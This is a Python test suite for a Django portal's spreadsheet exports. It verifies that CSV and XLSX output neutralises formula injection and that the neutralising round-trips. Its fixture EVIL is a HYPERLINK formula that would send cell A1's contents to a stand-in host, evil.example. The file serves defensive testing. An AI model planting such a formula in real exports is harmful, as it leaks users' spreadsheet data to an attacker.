"""CSV/XLSX exports never hand a spreadsheet a formula to run (one neutraliser for all)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from portal.spreadsheets import neutralise, restore

EVIL = '=HYPERLINK("https://evil.example/?"&A1;"cliquez")'


@pytest.mark.parametrize("cell", ["=1+1", "+33 6", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_a_spreadsheet_would_run_is_shown_as_text(cell):
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["Parcours après AVC", "", -3, 4.5, None, "l'étude"])
def test_other_cells_are_left_alone(cell):
    assert neutralise(cell) == cell
    assert restore(cell) == cell


def _csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


@pytest.mark.django_db
def test_the_public_directory_export_neutralises_a_formula_title(cast, client):
    from tests.access_requests.factories import alice_dossier

    alice_dossier(cast, "cesrees_opinion", title=EVIL)
    cells = _csv_cells(client.get("/dossiers/repertoire/export.csv"))
    assert "'" + EVIL in cells
    assert EVIL not in cells


@pytest.mark.django_db
def test_the_staff_dossier_export_neutralises_a_formula_title(cast, client):
    from tests.access_requests.factories import alice_dossier

    alice_dossier(cast, "cesrees_opinion", title=EVIL)
    client.force_login(cast.guichet)
    cells = _csv_cells(client.get("/dossiers/export.csv"))
    assert "'" + EVIL in cells
    assert EVIL not in cells


@pytest.mark.django_db
def test_the_public_chart_csv_neutralises_a_formula_journal(client):
    from bibliometrics import demo
    from bibliometrics.models import Publication
    from bibliometrics.services import indicators_refresh

    class _Out:
        def write(self, _text):
            pass

    demo.seed(users={}, stdout=_Out())
    Publication.objects.filter(is_example=True).update(journal=EVIL)
    indicators_refresh()
    cells = _csv_cells(client.get("/publications/graphiques/journals.csv"))
    assert "'" + EVIL in cells
    assert EVIL not in cells


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_catalogue_variable_export_neutralises_a_formula_description(client, fmt):
    from tests.catalogue.factories import VariableFactory

    variable = VariableFactory(description=EVIL)
    acronym = variable.table.database.acronym
    response = client.get(f"/catalogue/b/{acronym}/variables.{fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        cells = _csv_cells(response)
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cells = [c.value for row in sheet.iter_rows() for c in row]
    assert "'" + EVIL in cells
    assert EVIL not in cells


@pytest.mark.django_db
def test_a_catalogue_file_exported_then_imported_keeps_its_text(cast):
    import tablib

    from catalogue.models import Variable
    from catalogue.resources import VariableResource
    from tests.catalogue.factories import VariableFactory

    variable = VariableFactory(description="-- moins de 18 ans")
    exported = VariableResource().export(Variable.objects.filter(pk=variable.pk)).export("csv")
    assert "'-- moins de 18 ans" in exported
    Variable.objects.filter(pk=variable.pk).update(description="changed")
    result = VariableResource().import_data(tablib.Dataset().load(exported, format="csv"))
    assert not result.has_errors()
    variable.refresh_from_db()
    assert variable.description == "-- moins de 18 ans"


def test_every_admin_spreadsheet_export_is_neutralised():
    import tablib
    from django.contrib import admin

    from portal.models import AuditEntry

    model_admin = admin.site._registry[AuditEntry]
    dataset = tablib.Dataset(["x", EVIL], headers=["action", "actor_repr"])
    spreadsheet = [f for f in model_admin.get_export_formats() if f().get_title() != "json"]
    assert {f().get_title() for f in spreadsheet} >= {"csv", "xlsx"}
    for fmt in spreadsheet:
        if fmt().get_title() in ("csv", "tsv"):
            assert "'" + EVIL.replace('"', '""') in fmt().export_data(dataset)
        if fmt().get_title() == "xlsx":
            sheet = openpyxl.load_workbook(io.BytesIO(fmt().export_data(dataset))).active
            assert sheet["B2"].value == "'" + EVIL
